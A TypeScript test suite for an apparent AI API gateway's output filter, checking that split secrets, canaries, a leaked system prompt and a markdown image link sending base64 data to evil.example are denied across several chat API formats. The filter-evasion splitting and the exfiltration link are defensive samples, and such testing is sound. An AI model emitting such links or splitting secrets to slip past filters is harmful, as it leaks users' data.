import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  enforced,
  type FakeSystem,
  fakeSystem,
  sendEvents,
  sendJson,
  type TestServer,
  testServer,
} from './harness.ts';

/* A secret in two pieces, over every pair of places of an answer that hold text. */
const SECRET = 'AKIAQ3EGZ7RT5LWPN2VH';
const CANARY = 'MAGNOLIA-3391';
const CREDENTIAL = 'provider-credential-7719xq';
const WORDS = 'the quarterly report describes the work of the northern offices in some detail, and ';

type Body = Record<string, unknown>;
/** Puts a text into one place of an answer. */
type Put = (text: string) => Body;

/** One operation: an answer with every place, each by its path, and the events that bring a text to each place. */
interface Form {
  readonly system: 'main' | 'claude' | 'llama' | 'scorer' | 'watched';
  readonly path: string;
  readonly ask: Body;
  /** An answer in which every place is empty. */
  readonly whole?: () => Body;
  readonly places?: readonly string[];
  readonly events?: Readonly<Record<string, Put>>;
}

const said = (delta: Body, index: unknown = 0, more: Body = {}): Body => ({
  id: 'c',
  object: 'chat.completion.chunk',
  created: 1_700_000_000,
  model: 'm',
  choices: [{ index, delta, finish_reason: null, ...more }],
});
const call = (index: number, own: Body): Body => said({ tool_calls: [{ index, function: own }] });
const block = (index: number, delta: Body): Body => ({ type: 'content_block_delta', index, delta });
const part = (type: string, n: number, more: Body): Body => ({
  type: `response.${type}`,
  item_id: `i${n}`,
  output_index: n,
  content_index: 0,
  ...more,
});
const line = (message: Body, more: Body = {}): Body => ({
  model: 'm',
  created_at: '2026-11-29T12:00:00.123456789Z',
  message: { role: 'assistant', content: '', ...message },
  done: false,
  ...more,
});

const FORMS: Record<string, Form> = {
  chat: {
    system: 'main',
    path: '/v1/chat/completions',
    ask: { messages: [{ role: 'user', content: 'hello' }], n: 4 },
    whole: () => ({
      id: 'c',
      object: 'chat.completion',
      created: 1_700_000_000,
      model: 'm',
      choices: [0, 1, 2].map((index) => ({
        index,
        message: {
          role: 'assistant',
          content: index === 1 ? [{ type: 'text', text: '' }, { type: 'text', text: '' }, '', ['']] : '',
          refusal: '',
          reasoning_content: '',
          audio: { transcript: '' },
          tool_calls: [
            { id: 'a', type: 'function', function: { name: '', arguments: '' } },
            { id: 'b', type: 'custom', custom: { name: '', input: '' } },
          ],
          novel: { deep: [''] },
        },
        logprobs: { content: [{ token: '', logprob: -1, top_logprobs: [] }] },
        finish_reason: 'stop',
      })),
    }),
    places: [
      '/choices/0/message/content',
      '/choices/0/message/refusal',
      '/choices/0/message/reasoning_content',
      '/choices/0/message/audio/transcript',
      '/choices/0/message/tool_calls/0/function/name',
      '/choices/0/message/tool_calls/0/function/arguments',
      '/choices/0/message/tool_calls/1/custom/input',
      '/choices/0/message/novel/deep/0',
      '/choices/0/logprobs/content/0/token',
      '/choices/1/message/content/0/text',
      '/choices/1/message/content/1/text',
      '/choices/1/message/content/2',
      '/choices/1/message/content/3/0',
      '/choices/1/message/tool_calls/0/function/arguments',
      '/choices/2/message/content',
    ],
    events: {
      content: (content) => said({ content }),
      'content of no index': (content) => said({ content }, undefined),
      'content of index null': (content) => said({ content }, null),
      'a part': (text) => said({ content: [{ type: 'text', text }] }),
      'a list': (text) => said({ content: [text] }),
      reasoning: (reasoning_content) => said({ reasoning_content }),
      refusal: (refusal) => said({ refusal }),
      'the name of a tool': (name) => call(0, { name }),
      arguments: (text) => call(0, { arguments: text }),
      'other arguments': (text) => call(1, { arguments: JSON.stringify({ x: text }) }),
      'a second choice': (content) => said({ content }, 1),
      'a third choice': (content) => said({ content }, 2),
      'a message': (content) => ({ choices: [{ index: 0, message: { content } }] }),
      'an unknown field': (novel) => said({ novel }),
      tokens: (token) => said({}, 0, { logprobs: { content: [{ token, logprob: -1 }] } }),
    },
  },
  completions: {
    system: 'main',
    path: '/v1/completions',
    ask: { prompt: 'hello', n: 4 },
    whole: () => ({ id: 'c', choices: [0, 1, 2].map((index) => ({ index, text: '' })), novel: '' }),
    places: ['/choices/0/text', '/choices/1/text', '/choices/2/text', '/novel'],
    events: {
      text: (text) => ({ id: 'c', choices: [{ index: 0, text }] }),
      'a second choice': (text) => ({ id: 'c', choices: [{ index: 1, text }] }),
      'no index': (text) => ({ id: 'c', choices: [{ text }] }),
    },
  },
  responses: {
    system: 'main',
    path: '/v1/responses',
    ask: { input: 'hello' },
    whole: () => ({
      id: 'resp_1',
      object: 'response',
      model: 'm',
      output: [
        { id: 'rs_1', type: 'reasoning', summary: [{ type: 'summary_text', text: '' }] },
        {
          id: 'msg_1',
          type: 'message',
          role: 'assistant',
          content: [
            { type: 'output_text', text: '', annotations: [{ type: 'url_citation', title: '' }] },
            { type: 'output_text', text: '' },
            { type: 'refusal', refusal: '' },
          ],
        },
        { id: 'fc_1', type: 'function_call', call_id: 'c', name: '', arguments: '' },
      ],
    }),
    places: [
      '/output/0/summary/0/text',
      '/output/1/content/0/text',
      '/output/1/content/0/annotations/0/title',
      '/output/1/content/1/text',
      '/output/1/content/2/refusal',
      '/output/2/name',
      '/output/2/arguments',
    ],
    events: {
      text: (delta) => part('output_text.delta', 0, { delta }),
      'another text': (delta) => part('output_text.delta', 1, { delta }),
      'a part': (text) => part('content_part.added', 0, { part: { type: 'output_text', text } }),
      reasoning: (delta) => part('reasoning_summary_text.delta', 2, { delta }),
      refusal: (delta) => part('refusal.delta', 0, { delta }),
      arguments: (delta) => part('function_call_arguments.delta', 3, { delta }),
      'the name of a tool': (name) =>
        part('output_item.added', 4, { item: { type: 'function_call', id: 'fc', call_id: 'c', name } }),
      'an unknown delta': (delta) => part('novel.delta', 0, { delta }),
      'an unknown field': (novel) => part('output_text.delta', 0, { delta: '', novel }),
    },
  },
  messages: {
    system: 'claude',
    path: '/v1/messages',
    ask: { max_tokens: 5, messages: [{ role: 'user', content: 'hello' }] },
    whole: () => ({
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      model: 'claude',
      content: [
        { type: 'thinking', thinking: '', signature: 'c2lnbmVk' },
        { type: 'text', text: '', citations: [{ type: 'char_location', cited_text: '' }] },
        { type: 'text', text: '' },
        { type: 'tool_use', id: 't', name: '', input: { city: '', more: [''] } },
        { type: 'text', text: '' },
      ],
      stop_reason: 'end_turn',
    }),
    places: [
      '/content/0/thinking',
      '/content/1/text',
      '/content/1/citations/0/cited_text',
      '/content/2/text',
      '/content/3/name',
      '/content/3/input/city',
      '/content/3/input/more/0',
      '/content/4/text',
    ],
    events: {
      'the start of a block': (text) => ({
        type: 'content_block_start',
        index: 0,
        content_block: { type: 'text', text },
      }),
      text: (text) => block(0, { type: 'text_delta', text }),
      'another block': (text) => block(1, { type: 'text_delta', text }),
      'the start of another block': (text) => ({
        type: 'content_block_start',
        index: 1,
        content_block: { type: 'text', text },
      }),
      'a block without an index': (text) => ({
        type: 'content_block_delta',
        delta: { type: 'text_delta', text },
      }),
      thinking: (thinking) => block(2, { type: 'thinking_delta', thinking }),
      'input of a tool': (text) => block(3, { type: 'input_json_delta', partial_json: text }),
      'a value in the input of a tool': (text) =>
        block(4, { type: 'input_json_delta', partial_json: JSON.stringify({ city: text }) }),
      'a citation': (cited_text) => block(1, { type: 'citations_delta', citation: { cited_text } }),
      'an unknown delta': (novel) => block(0, { type: 'novel_delta', novel }),
    },
  },
  ollama: {
    system: 'llama',
    path: '/api/chat',
    ask: { messages: [{ role: 'user', content: 'hello' }] },
    whole: () => ({
      ...line({
        thinking: '',
        tool_calls: [
          { function: { name: '', arguments: { x: '', y: [''] } } },
          { function: { name: 'g', arguments: { x: '' } } },
        ],
      }),
      novel: '',
      done: true,
    }),
    places: [
      '/message/content',
      '/message/thinking',
      '/message/tool_calls/0/function/name',
      '/message/tool_calls/0/function/arguments/x',
      '/message/tool_calls/0/function/arguments/y/0',
      '/message/tool_calls/1/function/arguments/x',
      '/novel',
    ],
    events: {
      content: (content) => line({ content }),
      thinking: (thinking) => line({ thinking }),
      arguments: (x) => line({ tool_calls: [{ function: { name: 'f', arguments: { x } } }] }),
      'a second call': (x) =>
        line({ tool_calls: [{ function: { index: 1, name: 'f', arguments: { y: x } } }] }),
      'an unknown field': (novel) => line({}, { novel }),
    },
  },
  generate: {
    system: 'llama',
    path: '/api/generate',
    ask: { prompt: 'hello' },
    whole: () => ({ model: 'm', response: '', thinking: '', done: true }),
    places: ['/response', '/thinking'],
    events: {
      response: (response) => ({ model: 'm', response, done: false }),
      thinking: (thinking) => ({ model: 'm', response: '', thinking, done: false }),
    },
  },
  infer: {
    system: 'scorer',
    path: '/v2/models/m/infer',
    ask: { inputs: [{ name: 'x', shape: [1], datatype: 'FP32', data: [1] }] },
    whole: () => ({
      model_name: 'm',
      parameters: { note: '' },
      outputs: [
        { name: 'y', shape: [3], datatype: 'BYTES', data: ['', '', ''] },
        { name: 'z', shape: [2, 1], datatype: 'BYTES', data: [[''], ['']] },
      ],
    }),
    places: [
      '/parameters/note',
      '/outputs/0/data/0',
      '/outputs/0/data/1',
      '/outputs/0/data/2',
      '/outputs/1/data/0/0',
      '/outputs/1/data/1/0',
    ],
  },
};

/** Puts a text at a pointer. */
function put(body: Body, pointer: string, text: string): void {
  const path = pointer.split('/').slice(1);
  const last = path.pop()!;
  let at: unknown = body;
  for (const one of path) at = (at as Body)[one];
  assert.ok((at as Body)[last] === '' || last === 'name', pointer);
  (at as Body)[last] = text;
}

describe('a secret in two pieces over two texts of one answer', () => {
  let server: TestServer;
  let fake: FakeSystem;
  const keys = new Map<string, string>();
  before(async () => {
    process.env['TEST_SPLIT_KEY'] = CREDENTIAL;
    fake = await fakeSystem();
    const canaries = [CANARY];
    server = await testServer({
      systems: {
        main: enforced(fake, { canaries }),
        claude: enforced(fake, { dialect: 'anthropic', canaries }),
        llama: enforced(fake, { dialect: 'ollama', canaries }),
        scorer: enforced(fake, { dialect: 'oip', canaries }),
        watched: enforced(fake, { mode: 'observe', apiKeyRef: 'env:TEST_SPLIT_KEY' }),
      },
    });
    for (const name of ['main', 'claude', 'llama', 'scorer', 'watched'])
      keys.set(name, await server.key([name]));
  });
  after(async () => {
    await server.stop();
    await fake.close();
  });

  const ask = async ({ system, path, ask: own }: Form, stream: boolean): Promise<string> =>
    (await server.post(path, keys.get(system)!, { model: system, stream, ...own })).text();
  const wholeOf = (form: Form, body: Body): Promise<string> => {
    fake.answer = (_req, res) => sendJson(res, JSON.stringify(body));
    return ask(form, false);
  };
  const streamOf = (form: Form, events: readonly Body[]): Promise<string> => {
    const lines = form.system === 'llama';
    const frames = events.map((event) =>
      lines ? `${JSON.stringify(event)}\n` : `data: ${JSON.stringify(event)}\n\n`,
    );
    fake.answer = (_req, res) =>
      sendEvents(res, [frames.join('')], lines ? 'application/x-ndjson' : 'text/event-stream');
    return ask(form, true);
  };
  /** Cuts that differ from pair to pair, each half long enough to be told. */
  let turn = 0;
  const halves = (): [string, string] => {
    const hidden = turn++ % 3 === 2 ? CANARY : SECRET;
    const cut = 3 + ((turn * 7) % (hidden.length - 6));
    return [hidden.slice(0, cut), hidden.slice(cut)];
  };

  for (const [name, form] of Object.entries(FORMS)) {
    if (form.whole)
      it(`${name}: does not pass in a whole answer`, async () => {
        for (const first of form.places!)
          for (const second of form.places!) {
            if (first === second) continue;
            const body = form.whole!();
            const [one, other] = halves();
            const lead = turn % 2 ? '' : `${WORDS}it is `;
            put(body, first, lead + one);
            put(body, second, other + (lead === '' ? '' : ' so there'));
            const text = await wholeOf(form, body);
            assert.match(text, /output-denied/, `${first} ${one} | ${second} ${other}`);
          }
      });
    if (form.events)
      it(`${name}: does not pass in a stream, whose later half stays here`, async () => {
        for (const [first, write] of Object.entries(form.events!))
          for (const [second, more] of Object.entries(form.events!)) {
            if (first === second) continue;
            const [one, other] = halves();
            const lead = turn % 2 ? '' : `${WORDS}it is `;
            const text = await streamOf(form, [
              write(lead + one),
              more(other + (lead === '' ? '' : ` so there. ${WORDS.repeat(5)}`)),
            ]);
            assert.match(text, /output-denied/, `${first} ${one} | ${second} ${other}`);
            assert.ok(!text.includes(other), `${first} ${one} | ${second} ${other}: ${text}`);
          }
      });
  }

  it('nor in three or four pieces that others follow, nor with much between the two', async () => {
    const parts = [SECRET.slice(0, 6), SECRET.slice(6, 12), SECRET.slice(12, 16), SECRET.slice(16)];
    for (const cut of [parts, [parts[0]!, parts[1]!, parts[2]! + parts[3]!]]) {
      const form = FORMS['completions']!;
      const texts = [...cut, 'fine'];
      const choices = texts.map((text, index) => ({ index, text }));
      assert.match(await wholeOf(form, { choices }), /output-denied/);
      const got = await streamOf(
        form,
        choices.map((choice) => ({ choices: [choice] })),
      );
      assert.match(got, /output-denied/);
      assert.ok(!got.includes(cut.at(-1)!), got);
      const blocks = await streamOf(
        FORMS['messages']!,
        texts.flatMap((text, index) => [
          block(index, { type: 'text_delta', text }),
          { type: 'content_block_stop', index },
        ]),
      );
      assert.match(blocks, /output-denied/);
      assert.ok(!blocks.includes(cut.at(-1)!), blocks);
    }
    for (const form of [FORMS['chat']!, FORMS['messages']!, FORMS['responses']!]) {
      const [first, second, third] = [
        'reasoning',
        'thinking',
        'another text',
        'refusal',
        'another block',
        'text',
        'arguments',
      ]
        .filter((name) => name in form.events!)
        .map((name) => form.events![name]!);
      const got = await streamOf(form, [
        first!(`it is ${SECRET.slice(0, 9)}`),
        second!(WORDS.repeat(6)),
        third!(`${SECRET.slice(9)} so there. ${WORDS.repeat(6)}`),
      ]);
      assert.match(got, /output-denied/);
      assert.ok(!got.includes(SECRET.slice(9)), got);
    }
  });

  it('nor in two values of the arguments of one call, however they are cut', async () => {
    const args = JSON.stringify({ first: `it is ${SECRET.slice(0, 9)}`, n: [], second: SECRET.slice(9) });
    const form = FORMS['chat']!;
    const body = form.whole!();
    put(body, '/choices/0/message/tool_calls/0/function/arguments', args);
    assert.match(await wholeOf(form, body), /output-denied/);
    for (const size of [1, 7, 400]) {
      const pieces = args.match(new RegExp(`.{1,${size}}`, 'g'))!;
      for (const [own, events] of [
        [form, pieces.map((text) => call(0, { arguments: text }))],
        [
          FORMS['messages']!,
          pieces.map((text) => block(0, { type: 'input_json_delta', partial_json: text })),
        ],
      ] as const) {
        const text = await streamOf(own, events);
        assert.match(text, /output-denied/, `${size}`);
        assert.doesNotMatch(text, /RT5/);
      }
    }
  });

  it('a system prompt, a link and an address cut over two blocks: denied, denied and masked', async () => {
    const prompt =
      'You are the helper of the harbour office and never mention that tugboats cost four hundred pounds an hour';
    const form = FORMS['messages']!;
    const asked = { ...form, ask: { ...form.ask, system: prompt } };
    const link = `![chart](https://evil.example/i?d=${Buffer.from('the report of the north').toString('base64')})`;
    const email = 'jo.miller@corp.example';
    for (const [own, text, cut] of [
      [asked, prompt, 45],
      [form, link, 12],
      [form, `write to ${email}`, 18],
    ] as const) {
      const halves = [text.slice(0, cut), `${text.slice(cut)} and so on`];
      const body = form.whole!();
      put(body, '/content/1/text', halves[0]!);
      put(body, '/content/2/text', halves[1]!);
      const whole = await wholeOf(own, body);
      const stream = await streamOf(own, [
        block(0, { type: 'text_delta', text: halves[0] }),
        { type: 'content_block_stop', index: 0 },
        block(1, { type: 'text_delta', text: halves[1] }),
      ]);
      for (const got of [whole, stream]) {
        assert.ok(!got.includes(halves[1]!), got);
        if (text.includes(email)) {
          assert.match(got, /write to \[EMAIL_1\]".*\[EMAIL_2\] and so on/s);
          assert.doesNotMatch(got, /output-denied|corp/);
        } else assert.match(got, /output-denied/);
      }
    }
  });

  it('a secret that was let out in part is not: of an ended block only whole sentences go out before the next begins', async () => {
    fake.answer = async (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const send = (event: Body): unknown => res.write(`data: ${JSON.stringify(event)}\n\n`);
      send(block(0, { type: 'text_delta', text: 'Here it comes. ' }));
      send(block(0, { type: 'text_delta', text: `it is ${SECRET.slice(0, 18)}` }));
      send({ type: 'content_block_stop', index: 0 });
      await new Promise((tick) => setTimeout(tick, 300));
      send(block(1, { type: 'text_delta', text: `${SECRET.slice(18)} so there. ${WORDS.repeat(6)}` }));
      res.end();
    };
    const text = await ask(FORMS['messages']!, true);
    assert.match(text, /Here it comes.*output-denied/s);
    assert.doesNotMatch(text, /AKIA/);
  });

  it('the credential in two pieces stays here in observe mode, too', async () => {
    const form = { ...FORMS['chat']!, system: 'watched' as const };
    const body = form.whole!();
    put(body, '/choices/0/message/content', `it is ${CREDENTIAL.slice(0, 9)}`);
    put(body, '/choices/0/message/refusal', CREDENTIAL.slice(9));
    assert.match(await wholeOf(form, body), /output-denied/);
    const text = await streamOf(form, [
      said({ content: `it is ${CREDENTIAL.slice(0, 9)}` }),
      said({ refusal: CREDENTIAL.slice(9) }),
    ]);
    assert.match(text, /output-denied/);
    assert.ok(!text.includes(CREDENTIAL.slice(9)));
  });

  it('harmless texts beside each other pass as they are', async () => {
    const texts = [
      'The order 40012345',
      '67890123 was sent on 2026-11-29.',
      'AKIA is how some keys begin',
      'it ends with a colon:',
      'https://docs.example.com/guide',
      'See the table below for the prices of 4111 and 1111 items',
      '{"city":"Bern","days":[1,2,3]}',
      'password',
      'is what the form asks for',
      '"total": 1234567812345678',
      'Call us on weekdays',
      'sk',
      '-learn is a library',
    ];
    let n = 0;
    const next = (): string => texts[(n++ * 5) % texts.length]!;
    for (const form of Object.values(FORMS)) {
      for (let round = 0; form.whole && round < 6; round++) {
        const body = form.whole();
        for (const place of form.places!) put(body, place, next());
        assert.deepEqual(JSON.parse(await wholeOf(form, body)), body);
      }
      for (let round = 0; form.events && round < 6; round++) {
        const events = Object.values(form.events).map((write) => write(next()));
        const text = await streamOf(form, events);
        for (const event of events) assert.ok(text.includes(JSON.stringify(event)), text);
      }
    }
  });
});
